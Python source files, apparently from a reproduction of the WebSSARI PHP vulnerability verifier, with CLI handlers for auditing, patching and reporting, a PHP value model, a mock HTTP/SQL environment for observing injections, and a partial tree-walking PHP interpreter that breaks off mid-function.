        timeout=args.timeout,
        start_method=args.start_method,
        interval=args.interval,
        # --once is one-shot smoke: a freshly created corpus is always
        # inside the debounce window, so honoring it would silently
        # audit nothing and exit 0.
        debounce=0.0 if args.once else max(0.0, args.debounce),
        out_dir=args.out_dir or cache_root / "watch",
        metrics=metrics,
        stop_event=stop,
        quiet=args.quiet,
        include_graph=include_graph,
    )

    def _request_stop(signum, frame) -> None:
        print(
            f"watch: received {signal.Signals(signum).name}, draining "
            "in-flight work...",
            file=sys.stderr,
        )
        stop.set()

    previous = {
        signum: signal.signal(signum, _request_stop)
        for signum in (signal.SIGINT, signal.SIGTERM)
    }
    server = None
    try:
        if bind is not None:
            server = MetricsServer(
                metrics, host=bind[0], port=bind[1], health=loop.health
            ).start()
            note = " (requested port busy; fell back)" if server.fell_back else ""
            print(
                f"watch: serving metrics on http://{server.host}:{server.port}/metrics{note}",
                file=sys.stderr,
            )
        if args.once:
            loop.run_cycle()
            return 0
        return loop.run_forever()
    finally:
        for signum, handler in previous.items():
            signal.signal(signum, handler)
        if server is not None:
            server.close()


def _cmd_serve(args: argparse.Namespace) -> int:
    import signal
    import threading

    from repro.obs import Tracer, write_chrome_trace
    from repro.service import Coordinator
    from repro.service.httpbase import HttpError, parse_bind

    try:
        bind = parse_bind(args.bind)
    except ValueError as error:
        print(f"serve: {error}", file=sys.stderr)
        return 2

    tracer = Tracer(enabled=True) if args.trace else None
    coordinator = Coordinator(
        host=bind[0],
        port=bind[1],
        lease_timeout=args.lease_timeout,
        tracer=tracer,
        jsonl_dir=args.jsonl_dir,
    )
    stop = threading.Event()

    def _request_stop(signum, frame) -> None:
        print(
            f"serve: received {signal.Signals(signum).name}, draining "
            "outstanding leases...",
            file=sys.stderr,
        )
        stop.set()

    previous = {
        signum: signal.signal(signum, _request_stop)
        for signum in (signal.SIGINT, signal.SIGTERM)
    }
    try:
        coordinator.start()
        note = " (requested port busy; fell back)" if coordinator.fell_back else ""
        print(f"serve: coordinator on {coordinator.url}{note}", file=sys.stderr)
        for path in args.submit or []:
            try:
                job = coordinator.submit_path(path)
            except HttpError as error:
                print(f"serve: {path}: {error.message}", file=sys.stderr)
                return 2
            print(
                f"serve: submitted {path} as {job.job_id} "
                f"({len(job.tasks)} task(s))",
                file=sys.stderr,
            )
        while not stop.wait(0.5):
            pass
        coordinator.drain()
        if not coordinator.wait_for_drain(args.drain_grace):
            print(
                f"serve: {coordinator.queue.leased_count} lease(s) still "
                f"outstanding after {args.drain_grace:g}s grace; exiting anyway",
                file=sys.stderr,
            )
        return 0
    finally:
        for signum, handler in previous.items():
            signal.signal(signum, handler)
        coordinator.close()
        if tracer is not None:
            write_chrome_trace(args.trace, tracer.take_roots())
            print(f"serve: wrote trace to {args.trace}", file=sys.stderr)


def _cmd_work(args: argparse.Namespace) -> int:
    import signal
    import socket
    import threading

    from repro.engine import ResultCache, default_cache_dir
    from repro.service.worker_client import WorkerConfig, run_worker

    url = args.connect.rstrip("/")
    if not url.startswith(("http://", "https://")):
        print(f"work: invalid coordinator URL {args.connect!r}", file=sys.stderr)
        return 2

    websari = _make_websari(args)
    cache_root = args.cache_dir or default_cache_dir()
    websari.attach_persistent_sat_cache(cache_root)
    websari.attach_persistent_parse_cache(cache_root)
    cache = None if args.no_cache else ResultCache(cache_root)
    stop = threading.Event()

    def _request_stop(signum, frame) -> None:
        print(
            f"work: received {signal.Signals(signum).name}, draining "
            "the in-flight batch...",
            file=sys.stderr,
        )
        stop.set()

    previous = {
        signum: signal.signal(signum, _request_stop)
        for signum in (signal.SIGINT, signal.SIGTERM)
    }
    config = WorkerConfig(
        node=args.node or f"{socket.gethostname()}-{os.getpid()}",
        jobs=max(1, args.jobs),
        lease_max=args.lease,
        poll=args.poll,
        timeout=args.timeout,
        start_method=args.start_method,
        cache=cache,
        quiet=args.quiet,
    )
    try:
        return run_worker(url, websari, config, stop_event=stop)
    finally:
        for signum, handler in previous.items():
            signal.signal(signum, handler)


def _cmd_report(args: argparse.Namespace) -> int:
    from repro.obs import (
        ReportError,
        diff_runs,
        load_audit,
        render_dashboard,
        render_diff,
        render_report,
        replay_disagreements,
        summarize_run,
    )

    if args.diff and args.path:
        print("report: give either a stream to summarize or --diff, not both", file=sys.stderr)
        return 2
    if not args.diff and not args.path:
        print("report: nothing to do (give a JSONL path or --diff OLD NEW)", file=sys.stderr)
        return 2
    if args.diff and (args.json or args.html):
        print("report: --json/--html only apply to single-stream summaries", file=sys.stderr)
        return 2
    try:
        if args.diff:
            old_path, new_path = args.diff
            old = load_audit(old_path)
            new = load_audit(new_path)
            diff = diff_runs(old, new)
            print(render_diff(old, new, diff))
            return 1 if diff.has_regressions else 0
        run = load_audit(args.path)
        if args.html is not None:
            args.html.write_text(render_dashboard(run, top=args.top))
        if args.json:
            print(json.dumps(summarize_run(run, top=args.top), indent=2, sort_keys=True))
        else:
            print(render_report(run, top=args.top))
        if args.html is not None:
            print(f"report: wrote dashboard to {args.html}", file=sys.stderr)
        if replay_disagreements(run.files):
            # A vulnerable verdict whose concrete replays were refuted is
            # the one state that demands human eyes: either the abstraction
            # over-approximated or the replayer under-approximated.
            return 3
        return 0
    except ReportError as error:
        print(f"report: {error}", file=sys.stderr)
        return 2


def _cmd_patch(args: argparse.Namespace) -> int:
    websari = _make_websari(args)
    source = args.path.read_text()
    report, patched = websari.patch_source(
        source, filename=str(args.path), strategy=args.strategy
    )
    output = args.output or args.path.with_suffix(".patched.php")
    output.write_text(patched.source)
    print(report.summary())
    print(f"wrote {output} ({patched.num_guards} guard(s), {patched.num_edits} edit(s))")
    return 0


def _cmd_html(args: argparse.Namespace) -> int:
    websari = _make_websari(args)
    source = args.path.read_text()
    report = websari.verify_source(source, filename=str(args.path))
    output = args.output or args.path.with_suffix(".report.html")
    output.write_text(render_html_report(report, source))
    print(f"wrote {output}")
    return 0 if report.safe else 1


def _cmd_figure10(args: argparse.Namespace) -> int:
    from repro.corpus import FIGURE_10, PAPER_TOTALS
    from repro.corpus.generator import generate_catalog_project

    websari = _make_websari(args)
    print(f"{'Project':40s} {'A':>3s} {'TS':>5s} {'BMC':>5s}")
    total_ts = total_bmc = 0
    for entry in FIGURE_10:
        generated = generate_catalog_project(entry)
        report = websari.verify_project(generated.project, jobs=args.jobs)
        total_ts += report.ts_error_count
        total_bmc += report.bmc_group_count
        print(
            f"{entry.name[:40]:40s} {entry.activity:3d} "
            f"{report.ts_error_count:5d} {report.bmc_group_count:5d}"
        )
    print(f"{'Total':40s}     {total_ts:5d} {total_bmc:5d}")
    reduction = 100.0 * (total_ts - total_bmc) / total_ts if total_ts else 0.0
    print(
        f"reduction: {reduction:.1f}% "
        f"(paper: {PAPER_TOTALS['reduction_percent']}% from stated totals)"
    )
    return 0


def main(argv: list[str] | None = None) -> int:
    args = build_parser().parse_args(argv)
    handlers = {
        "verify": _cmd_verify,
        "audit": _cmd_audit,
        "watch": _cmd_watch,
        "serve": _cmd_serve,
        "work": _cmd_work,
        "report": _cmd_report,
        "patch": _cmd_patch,
        "html": _cmd_html,
        "figure10": _cmd_figure10,
    }
    try:
        return handlers[args.command](args)
    except KeyboardInterrupt:
        print("interrupted", file=sys.stderr)
        return 130
    except BrokenPipeError:
        # Downstream closed the pipe (| head, pager quit): exit quietly
        # like a well-behaved filter.  Redirect stdout to devnull first
        # so the interpreter's shutdown flush doesn't raise again.
        devnull = os.open(os.devnull, os.O_WRONLY)
        os.dup2(devnull, sys.stdout.fileno())
        return 141


if __name__ == "__main__":  # pragma: no cover
    raise SystemExit(main())
