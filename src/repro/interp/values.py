"""PHP value model for the mini interpreter.

Values map onto Python types: ``null → None``, booleans, ints, floats,
strings, and arrays as insertion-ordered dicts (:class:`PhpArray`).
Conversion helpers implement PHP's loose-typing rules closely enough for
the web-application subset the corpus exercises: numeric strings
coerce in arithmetic, anything stringifies for concatenation, and
truthiness follows PHP's table ("0" is false, "0.0" is true, empty
array is false, ...).
"""

from __future__ import annotations

__all__ = ["PhpArray", "PhpObject", "to_bool", "to_number", "to_string", "loose_equals", "type_name"]


class PhpArray:
    """An ordered PHP array: integer and string keys, auto-indexing."""

    def __init__(self, items: dict | None = None) -> None:
        self._data: dict = {}
        self._next_index = 0
        if items:
            for key, value in items.items():
                self.set(key, value)

    @staticmethod
    def _normalize_key(key: object) -> object:
        # PHP casts float keys and integer-like strings to int.
        if isinstance(key, bool):
            return int(key)
        if isinstance(key, float):
            return int(key)
        if (
            isinstance(key, str)
            and key.lstrip("-")
            and all(ch in "0123456789" for ch in key.lstrip("-"))
            and key.count("-") <= (1 if key.startswith("-") else 0)
        ):
            return int(key)
        if key is None:
            return ""
        return key

    def set(self, key: object | None, value: object) -> None:
        if key is None:
            key = self._next_index
        key = self._normalize_key(key)
        if isinstance(key, int) and key >= self._next_index:
            self._next_index = key + 1
        self._data[key] = value

    def get(self, key: object, default: object = None) -> object:
        return self._data.get(self._normalize_key(key), default)

    def has(self, key: object) -> bool:
        return self._normalize_key(key) in self._data

    def unset(self, key: object) -> None:
        self._data.pop(self._normalize_key(key), None)

    def keys(self) -> list:
        return list(self._data.keys())

    def values(self) -> list:
        return list(self._data.values())

    def items(self) -> list[tuple]:
        return list(self._data.items())

    def copy(self) -> "PhpArray":
        dup = PhpArray()
        dup._data = dict(self._data)
        dup._next_index = self._next_index
        return dup

    def __len__(self) -> int:
        return len(self._data)

    def __bool__(self) -> bool:
        return bool(self._data)

    def __eq__(self, other: object) -> bool:
        return isinstance(other, PhpArray) and other._data == self._data

    def __repr__(self) -> str:
        inner = ", ".join(f"{k!r} => {v!r}" for k, v in self._data.items())
        return f"PhpArray({inner})"


class PhpObject:
    """A minimal PHP object: a class name and a property bag."""

    def __init__(self, class_name: str) -> None:
        self.class_name = class_name
        self.properties: dict[str, object] = {}

    def __repr__(self) -> str:
        return f"PhpObject({self.class_name}, {self.properties!r})"


def type_name(value: object) -> str:
    if value is None:
        return "NULL"
    if isinstance(value, bool):
        return "boolean"
    if isinstance(value, int):
        return "integer"
    if isinstance(value, float):
        return "double"
    if isinstance(value, str):
        return "string"
    if isinstance(value, PhpArray):
        return "array"
    if isinstance(value, PhpObject):
        return "object"
    return "resource"


def to_bool(value: object) -> bool:
    if value is None:
        return False
    if isinstance(value, bool):
        return value
    if isinstance(value, int):
        return value != 0
    if isinstance(value, float):
        return value != 0.0
    if isinstance(value, str):
        return value not in ("", "0")
    if isinstance(value, PhpArray):
        return len(value) > 0
    return True


def to_number(value: object) -> int | float:
    """PHP numeric coercion: leading-numeric prefix of strings, 0 otherwise."""
    if isinstance(value, bool):
        return int(value)
    if isinstance(value, (int, float)):
        return value
    if value is None:
        return 0
    if isinstance(value, str):
        return _leading_number(value)
    if isinstance(value, PhpArray):
        return 1 if len(value) else 0
    return 0


def _leading_number(text: str) -> int | float:
    text = text.strip()
    best = ""
    seen_dot = False
    seen_e = False
    for i, ch in enumerate(text):
        if ch in "0123456789":  # ASCII only: '²'.isdigit() is True but int() rejects it
            best += ch
        elif ch == "-" and i == 0:
            best += ch
        elif ch == "." and not seen_dot and not seen_e:
            best += ch
            seen_dot = True
        elif ch in "eE" and not seen_e and best and best[-1] in "0123456789":
            # Only accept the exponent if digits follow.
            rest = text[i + 1 :]
            if rest[:1] in set("0123456789") or (
                rest[:1] in "+-" and rest[1:2] in set("0123456789")
            ):
                best += ch
                seen_e = True
            else:
                break
        elif ch in "+-" and seen_e and best[-1] in "eE":
            best += ch
        else:
            break
    if not best or best in ("-", "."):
        return 0
    if seen_dot or seen_e:
        return float(best)
    return int(best)


def to_string(value: object) -> str:
    if value is None:
        return ""
    if isinstance(value, bool):
        return "1" if value else ""
    if isinstance(value, float):
        if value == int(value) and abs(value) < 1e15:
            return str(int(value))
        return repr(value)
    if isinstance(value, int):
        return str(value)
    if isinstance(value, str):
        return value
    if isinstance(value, PhpArray):
        return "Array"
    if isinstance(value, PhpObject):
        return f"Object({value.class_name})"
    return str(value)


def loose_equals(a: object, b: object) -> bool:
    """PHP's ``==``: numeric comparison when either side is numeric-ish."""
    if type(a) is type(b) or (isinstance(a, (int, float)) and isinstance(b, (int, float))):
        if isinstance(a, PhpArray) and isinstance(b, PhpArray):
            return a == b
        return a == b
    if a is None:
        return not to_bool(b)
    if b is None:
        return not to_bool(a)
    if isinstance(a, bool) or isinstance(b, bool):
        return to_bool(a) == to_bool(b)
    if isinstance(a, str) and isinstance(b, (int, float)):
        return to_number(a) == b
    if isinstance(b, str) and isinstance(a, (int, float)):
        return to_number(b) == a
    return a == b
