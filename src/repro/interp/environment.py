"""Execution environment: simulated HTTP request, output buffer, mock DB.

The interpreter runs a PHP script the way a web server would serve one
request: superglobals are populated from a :class:`HttpRequest`, ``echo``
output accumulates into a response buffer, and the ``mysql_*`` functions
talk to a :class:`MockDatabase` — a tiny in-memory engine that
understands the ``INSERT INTO t (cols) VALUES (...)``, ``SELECT ... FROM
t [WHERE col=value]``, ``UPDATE``, ``DELETE`` and ``DROP TABLE`` shapes
the corpus and the paper's figures generate.  Every executed SQL string
is also appended verbatim to ``query_log`` so examples and tests can
detect injection (e.g. a smuggled ``DROP TABLE``) structurally.
"""

from __future__ import annotations

import re
from dataclasses import dataclass, field

from repro.interp.values import PhpArray, to_string

__all__ = ["HttpRequest", "MockDatabase", "QueryResult", "ExecutionEnvironment"]


@dataclass
class HttpRequest:
    """One simulated HTTP request feeding the superglobals."""

    get: dict[str, str] = field(default_factory=dict)
    post: dict[str, str] = field(default_factory=dict)
    cookies: dict[str, str] = field(default_factory=dict)
    referer: str = ""
    user_agent: str = ""
    server: dict[str, str] = field(default_factory=dict)

    def superglobals(self) -> dict[str, object]:
        server = PhpArray(
            {
                "HTTP_REFERER": self.referer,
                "HTTP_USER_AGENT": self.user_agent,
                **self.server,
            }
        )
        request = PhpArray({**self.get, **self.post, **self.cookies})
        return {
            "_GET": PhpArray(dict(self.get)),
            "_POST": PhpArray(dict(self.post)),
            "_COOKIE": PhpArray(dict(self.cookies)),
            "_REQUEST": request,
            "_SERVER": server,
            "HTTP_GET_VARS": PhpArray(dict(self.get)),
            "HTTP_POST_VARS": PhpArray(dict(self.post)),
            "HTTP_REFERER": self.referer,
            "HTTP_USER_AGENT": self.user_agent,
        }


class QueryResult:
    """A mysql result resource: rows plus a cursor for fetch_array."""

    def __init__(self, rows: list[dict]) -> None:
        self.rows = rows
        self.cursor = 0

    def fetch(self) -> dict | None:
        if self.cursor >= len(self.rows):
            return None
        row = self.rows[self.cursor]
        self.cursor += 1
        return row


class SqlError(ValueError):
    pass


class MockDatabase:
    """In-memory tables plus a verbatim query log."""

    def __init__(self) -> None:
        self.tables: dict[str, list[dict]] = {}
        self.query_log: list[str] = []
        self.dropped_tables: list[str] = []

    def create_table(self, name: str, rows: list[dict] | None = None) -> None:
        self.tables[name] = list(rows or [])

    def execute(self, sql: str) -> QueryResult | bool:
        self.query_log.append(sql)
        results: QueryResult | bool = True
        # A smuggled statement separator executes each piece — this is
        # exactly what makes SQL injection observable at runtime.
        for statement in self._split_statements(sql):
            results = self._execute_one(statement)
        return results

    @staticmethod
    def _split_statements(sql: str) -> list[str]:
        """Split on ';' like a real engine would: separators inside quoted
        strings do not end a statement (so properly escaped input cannot
        smuggle a second statement, but quote-breakout injection can)."""
        pieces: list[str] = []
        current = ""
        quote: str | None = None
        i = 0
        while i < len(sql):
            ch = sql[i]
            if quote is not None:
                current += ch
                if ch == "\\" and i + 1 < len(sql):
                    current += sql[i + 1]
                    i += 2
                    continue
                if ch == quote:
                    quote = None
            elif ch in ("'", '"'):
                quote = ch
                current += ch
            elif ch == ";":
                pieces.append(current.strip())
                current = ""
            else:
                current += ch
            i += 1
        pieces.append(current.strip())
        return [p for p in pieces if p]

    def _execute_one(self, sql: str) -> QueryResult | bool:
        match = re.match(r"insert\s+into\s+(\w+)\s*(?:\(([^)]*)\))?\s*values\s*\((.*)\)\s*$", sql, re.IGNORECASE | re.DOTALL)
        if match:
            return self._insert(match.group(1), match.group(2), match.group(3))
        match = re.match(r"select\s+(.*?)\s+from\s+(\w+)(?:\s+where\s+(.*))?$", sql, re.IGNORECASE | re.DOTALL)
        if match:
            return self._select(match.group(1), match.group(2), match.group(3))
        match = re.match(r"drop\s+table\s+\(?'?\"?(\w+)", sql, re.IGNORECASE)
        if match:
            name = match.group(1)
            self.tables.pop(name, None)
            self.dropped_tables.append(name)
            return True
        match = re.match(r"delete\s+from\s+(\w+)(?:\s+where\s+(.*))?$", sql, re.IGNORECASE | re.DOTALL)
        if match:
            table = match.group(1)
            predicate = self._predicate(match.group(2))
            rows = self.tables.get(table, [])
            self.tables[table] = [row for row in rows if not predicate(row)]
            return True
        match = re.match(r"update\s+(\w+)\s+set\s+(.*?)(?:\s+where\s+(.*))?$", sql, re.IGNORECASE | re.DOTALL)
        if match:
            return self._update(match.group(1), match.group(2), match.group(3))
        # Unknown statements succeed silently (the corpus only needs the
        # shapes above); the verbatim log still captures them.
        return True

    def _insert(self, table: str, columns: str | None, values: str) -> bool:
        rows = self.tables.setdefault(table, [])
        parsed_values = self._parse_value_list(values)
        if columns:
            names = [c.strip().strip("`") for c in columns.split(",")]
        else:
            names = [f"col{i}" for i in range(len(parsed_values))]
        rows.append(dict(zip(names, parsed_values)))
        return True

    def _select(self, columns: str, table: str, where: str | None) -> QueryResult:
        rows = self.tables.get(table, [])
        predicate = self._predicate(where)
        selected = [row for row in rows if predicate(row)]
        columns = columns.strip()
        if columns == "*":
            return QueryResult([dict(row) for row in selected])
        names = [c.strip().strip("`").split(".")[-1] for c in columns.split(",")]
        return QueryResult([{n: row.get(n) for n in names} for row in selected])

    def _update(self, table: str, assignments: str, where: str | None) -> bool:
        predicate = self._predicate(where)
        updates: list[tuple[str, object]] = []
        for assignment in assignments.split(","):
            name, _, raw = assignment.partition("=")
            if raw:
                updates.append((name.strip().strip("`"), self._parse_scalar(raw)))
        for row in self.tables.get(table, []):
            if predicate(row):
                for name, value in updates:
                    row[name] = value
        return True

    def _predicate(self, where: str | None):
        if not where:
            return lambda row: True
        match = re.match(r"\s*(\w+(?:\.\w+)?)\s*=\s*(.+?)\s*$", where)
        if not match:
            return lambda row: True
        column = match.group(1).split(".")[-1]
        value = self._parse_scalar(match.group(2))
        return lambda row: to_string(row.get(column)) == to_string(value)

    @staticmethod
    def _parse_scalar(text: str) -> object:
        text = text.strip()
        if len(text) >= 2 and text[0] == text[-1] and text[0] in ("'", '"'):
            return text[1:-1]
        try:
            return int(text)
        except ValueError:
            try:
                return float(text)
            except ValueError:
                return text

    def _parse_value_list(self, values: str) -> list[object]:
        out: list[object] = []
        current = ""
        was_quoted = False
        quote: str | None = None
        i = 0
        while i < len(values):
            ch = values[i]
            if quote is not None:
                if ch == "\\" and i + 1 < len(values):
                    current += values[i + 1]
                    i += 2
                    continue
                if ch == quote:
                    quote = None
                else:
                    current += ch
            elif ch in ("'", '"'):
                if not current.strip():
                    current = ""  # drop padding before the opening quote
                quote = ch
                was_quoted = True
            elif ch == ",":
                out.append(self._finish_value(current, was_quoted))
                current = ""
                was_quoted = False
            elif was_quoted and ch.isspace():
                pass  # padding after the closing quote
            else:
                current += ch
            i += 1
        if current.strip() or was_quoted or out:
            out.append(self._finish_value(current, was_quoted))
        return out

    @staticmethod
    def _finish_value(text: str, was_quoted: bool) -> object:
        if was_quoted:
            return text  # quoted values keep their exact contents
        stripped = text.strip()
        try:
            return int(stripped)
        except ValueError:
            try:
                return float(stripped)
            except ValueError:
                return stripped


@dataclass
class ExecutionEnvironment:
    """Everything one simulated request execution touches."""

    request: HttpRequest = field(default_factory=HttpRequest)
    database: MockDatabase = field(default_factory=MockDatabase)
    #: Server-side session store shared across requests; ``session_start()``
    #: exposes it as ``$_SESSION`` and changes are written back when the
    #: script finishes.
    session_store: dict = field(default_factory=dict)
    output: list[str] = field(default_factory=list)
    #: (function, stringified args) for every sensitive call executed.
    sink_log: list[tuple[str, tuple[str, ...]]] = field(default_factory=list)
    #: Commands passed to exec/system/... (never actually run).
    command_log: list[str] = field(default_factory=list)
    headers: list[str] = field(default_factory=list)

    def write(self, text: str) -> None:
        self.output.append(text)

    def response_body(self) -> str:
        return "".join(self.output)
