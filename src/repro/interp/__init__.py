"""Mini PHP interpreter: executes original and instrumented code against
simulated HTTP requests (the runtime-inspection half of WebSSARI)."""

from repro.interp.environment import (
    ExecutionEnvironment,
    HttpRequest,
    MockDatabase,
    QueryResult,
)
from repro.interp.interpreter import Interpreter, PhpFatalError, PhpRuntimeError, run_php
from repro.interp.values import PhpArray, PhpObject, to_bool, to_number, to_string

__all__ = [
    "ExecutionEnvironment",
    "HttpRequest",
    "MockDatabase",
    "QueryResult",
    "Interpreter",
    "PhpFatalError",
    "PhpRuntimeError",
    "run_php",
    "PhpArray",
    "PhpObject",
    "to_bool",
    "to_number",
    "to_string",
]
