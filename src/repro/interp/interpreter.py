"""Tree-walking interpreter for the PHP subset.

This is the runtime half of WebSSARI's story: it executes original and
instrumented code against simulated HTTP requests, so the examples and
tests can demonstrate *behaviour* — an XSS payload surviving into the
response body of the vulnerable script and being neutralized in the
patched one, a smuggled ``DROP TABLE`` reaching (or not reaching) the
mock database.

Covered: all statements the parser produces, user functions (including
by-reference parameters and ``global``), the common string/array builtin
library, the ``mysql_*`` functions against :class:`MockDatabase`, and
``__webssari_sanitize`` (the runtime guard).  Execution is bounded by a
step budget so accidental infinite loops fail loudly.
"""

from __future__ import annotations

from repro.instrument.guards import html_escape, sanitize_value, sql_escape
from repro.interp.environment import ExecutionEnvironment, HttpRequest, QueryResult
from repro.interp.values import (
    PhpArray,
    PhpObject,
    loose_equals,
    to_bool,
    to_number,
    to_string,
)
from repro.php import ast_nodes as ast
from repro.php.parser import parse

__all__ = ["Interpreter", "PhpRuntimeError", "PhpFatalError", "run_php"]


class PhpRuntimeError(Exception):
    """Interpreter-level failure (step budget, unsupported construct)."""


class PhpFatalError(PhpRuntimeError):
    """PHP fatal error (missing require, undefined function, ...)."""


class _ExitSignal(Exception):
    pass


class _ReturnSignal(Exception):
    def __init__(self, value: object) -> None:
        self.value = value


class _BreakSignal(Exception):
    def __init__(self, level: int) -> None:
        self.level = level


class _ContinueSignal(Exception):
    def __init__(self, level: int) -> None:
        self.level = level


class Interpreter:
    def __init__(
        self,
        environment: ExecutionEnvironment | None = None,
        max_steps: int = 1_000_000,
        files: dict[str, str] | None = None,
    ) -> None:
        self.env = environment if environment is not None else ExecutionEnvironment()
        self.max_steps = max_steps
        self.files = files or {}
        self._steps = 0
        self.globals: dict[str, object] = dict(self.env.request.superglobals())
        self.functions: dict[str, ast.FunctionDecl] = {}
        self.classes: dict[str, ast.ClassDecl] = {}
        self._included: set[str] = set()

    # -- top level ----------------------------------------------------------

    def run(self, source: str, filename: str = "<string>") -> ExecutionEnvironment:
        program = parse(source, filename)
        self._hoist_functions(program.statements)
        try:
            self._exec_all(program.statements, self.globals)
        except _ExitSignal:
            pass
        self._persist_session()
        return self.env

    def _persist_session(self) -> None:
        """Write $_SESSION changes back into the shared session store."""
        session = self.globals.get("_SESSION")
        if isinstance(session, PhpArray):
            self.env.session_store.clear()
            self.env.session_store.update(dict(session.items()))

    def _hoist_functions(self, statements) -> None:
        for stmt in statements:
            if isinstance(stmt, ast.FunctionDecl):
                self.functions.setdefault(stmt.name.lower(), stmt)
            elif isinstance(stmt, ast.ClassDecl):
                self.classes.setdefault(stmt.name.lower(), stmt)

    # -- class helpers ---------------------------------------------------

    def _class_chain(self, class_name: str) -> list[ast.ClassDecl]:
        """The class and its ancestors, most-derived first."""
        chain: list[ast.ClassDecl] = []
        seen: set[str] = set()
        current = self.classes.get(class_name.lower())
        while current is not None and current.name.lower() not in seen:
            seen.add(current.name.lower())
            chain.append(current)
            current = (
                self.classes.get(current.parent.lower()) if current.parent else None
            )
        return chain

    def _resolve_method(self, class_name: str, method: str) -> ast.FunctionDecl | None:
        for decl in self._class_chain(class_name):
            found = decl.method(method)
            if found is not None:
                return found
        return None

    def _tick(self) -> None:
        self._steps += 1
        if self._steps > self.max_steps:
            raise PhpRuntimeError(f"step budget of {self.max_steps} exceeded")

    # -- statements ------------------------------------------------------------

    def _exec_all(self, statements, scope: dict) -> None:
        for stmt in statements:
            self._exec(stmt, scope)

    def _exec(self, stmt: ast.Statement, scope: dict) -> None:
        self._tick()
        if isinstance(stmt, ast.InlineHTML):
            self.env.write(stmt.text)
            return
        if isinstance(stmt, ast.ExpressionStatement):
            self._eval(stmt.expression, scope)
            return
        if isinstance(stmt, ast.Echo):
            for arg in stmt.arguments:
                self.env.write(to_string(self._eval(arg, scope)))
            return
        if isinstance(stmt, ast.Block):
            self._exec_all(stmt.statements, scope)
            return
        if isinstance(stmt, ast.If):
            if to_bool(self._eval(stmt.condition, scope)):
                self._exec(stmt.then, scope)
                return
            for clause in stmt.elseifs:
                if to_bool(self._eval(clause.condition, scope)):
                    self._exec(clause.body, scope)
                    return
            if stmt.orelse is not None:
                self._exec(stmt.orelse, scope)
            return
        if isinstance(stmt, ast.While):
            while to_bool(self._eval(stmt.condition, scope)):
                self._tick()
                try:
                    self._exec(stmt.body, scope)
                except _BreakSignal as signal:
                    if signal.level > 1:
                        raise _BreakSignal(signal.level - 1)
                    break
                except _ContinueSignal as signal:
                    if signal.level > 1:
                        raise _ContinueSignal(signal.level - 1)
            return
        if isinstance(stmt, ast.DoWhile):
            while True:
                self._tick()
                try:
                    self._exec(stmt.body, scope)
                except _BreakSignal as signal:
                    if signal.level > 1:
                        raise _BreakSignal(signal.level - 1)
                    break
                except _ContinueSignal as signal:
                    if signal.level > 1:
                        raise _ContinueSignal(signal.level - 1)
                if not to_bool(self._eval(stmt.condition, scope)):
                    break
            return
        if isinstance(stmt, ast.For):
            for expr in stmt.init:
                self._eval(expr, scope)
            while all(to_bool(self._eval(c, scope)) for c in stmt.condition) or not stmt.condition:
                self._tick()
                try:
                    self._exec(stmt.body, scope)
                except _BreakSignal as signal:
                    if signal.level > 1:
                        raise _BreakSignal(signal.level - 1)
                    break
                except _ContinueSignal as signal:
                    if signal.level > 1:
                        raise _ContinueSignal(signal.level - 1)
                for expr in stmt.update:
                    self._eval(expr, scope)
            return
        if isinstance(stmt, ast.Foreach):
            subject = self._eval(stmt.subject, scope)
            items = subject.items() if isinstance(subject, PhpArray) else []
            for key, value in items:
                self._tick()
                if stmt.key_var is not None:
                    self._assign_to(stmt.key_var, key, scope)
                self._assign_to(stmt.value_var, value, scope)
                try:
                    self._exec(stmt.body, scope)
                except _BreakSignal as signal:
                    if signal.level > 1:
                        raise _BreakSignal(signal.level - 1)
                    break
                except _ContinueSignal as signal:
                    if signal.level > 1:
                        raise _ContinueSignal(signal.level - 1)
            return
        if isinstance(stmt, ast.Switch):
            subject = self._eval(stmt.subject, scope)
            matched = False
            try:
                for case in stmt.cases:
                    if not matched:
                        if case.test is None:
                            matched = True
                        elif loose_equals(subject, self._eval(case.test, scope)):
                            matched = True
                    if matched:
                        self._exec_all(case.body, scope)
            except _BreakSignal as signal:
                if signal.level > 1:
                    raise _BreakSignal(signal.level - 1)
            return
        if isinstance(stmt, ast.Break):
            raise _BreakSignal(stmt.level)
        if isinstance(stmt, ast.Continue):
            raise _ContinueSignal(stmt.level)
        if isinstance(stmt, ast.Return):
            value = self._eval(stmt.value, scope) if stmt.value is not None else None
            raise _ReturnSignal(value)
        if isinstance(stmt, ast.FunctionDecl):
            self.functions.setdefault(stmt.name.lower(), stmt)
            return
        if isinstance(stmt, ast.ClassDecl):
            self.classes.setdefault(stmt.name.lower(), stmt)
            return
        if isinstance(stmt, ast.GlobalStatement):
            marks = scope.setdefault("__globals__", set())
            for name in stmt.names:
                marks.add(name)
            return
        if isinstance(stmt, ast.StaticStatement):
            for var in stmt.variables:
                if var.name not in scope and var.default is not None:
                    scope[var.name] = self._eval(var.default, scope)
            return
        if isinstance(stmt, ast.UnsetStatement):
            for operand in stmt.operands:
                self._unset(operand, scope)
            return
        raise PhpRuntimeError(f"unsupported statement {type(stmt).__name__}")

    # -- variable plumbing --------------------------------------------------------

    def _scope_for(self, name: str, scope: dict) -> dict:
        if scope is self.globals:
            return self.globals
        if name in scope.get("__globals__", ()):
            return self.globals
        return scope

    def _read_var(self, name: str, scope: dict) -> object:
        return self._scope_for(name, scope).get(name)

    def _assign_to(self, target: ast.Expression, value: object, scope: dict) -> object:
        if isinstance(target, ast.Variable):
            self._scope_for(target.name, scope)[target.name] = value
            return value
        if isinstance(target, ast.ArrayDim):
            container = self._container_for(target.base, scope)
            key = self._eval(target.index, scope) if target.index is not None else None
            container.set(key, value)
            return value
        if isinstance(target, ast.PropertyFetch):
            obj = self._eval(target.object, scope)
            if not isinstance(obj, PhpObject):
                obj = PhpObject("stdClass")
                self._assign_to(target.object, obj, scope)
            obj.properties[target.property] = value
            return value
        raise PhpRuntimeError(f"cannot assign to {type(target).__name__}")

    def _container_for(self, base: ast.Expression, scope: dict) -> PhpArray:
        """Resolve (auto-vivifying) the array a subscript write targets."""
        if isinstance(base, ast.Variable):
            holder = self._scope_for(base.name, scope)
            current = holder.get(base.name)
            if not isinstance(current, PhpArray):
                current = PhpArray()
                holder[base.name] = current
            return current
        if isinstance(base, ast.ArrayDim):
            outer = self._container_for(base.base, scope)
            key = self._eval(base.index, scope) if base.index is not None else None
            current = outer.get(key)
            if not isinstance(current, PhpArray):
                current = PhpArray()
                outer.set(key, current)
            return current
        raise PhpRuntimeError(f"cannot subscript {type(base).__name__}")

    def _unset(self, operand: ast.Expression, scope: dict) -> None:
        if isinstance(operand, ast.Variable):
            self._scope_for(operand.name, scope).pop(operand.name, None)
        elif isinstance(operand, ast.ArrayDim):
            base = self._eval(operand.base, scope)
            if isinstance(base, PhpArray) and operand.index is not None:
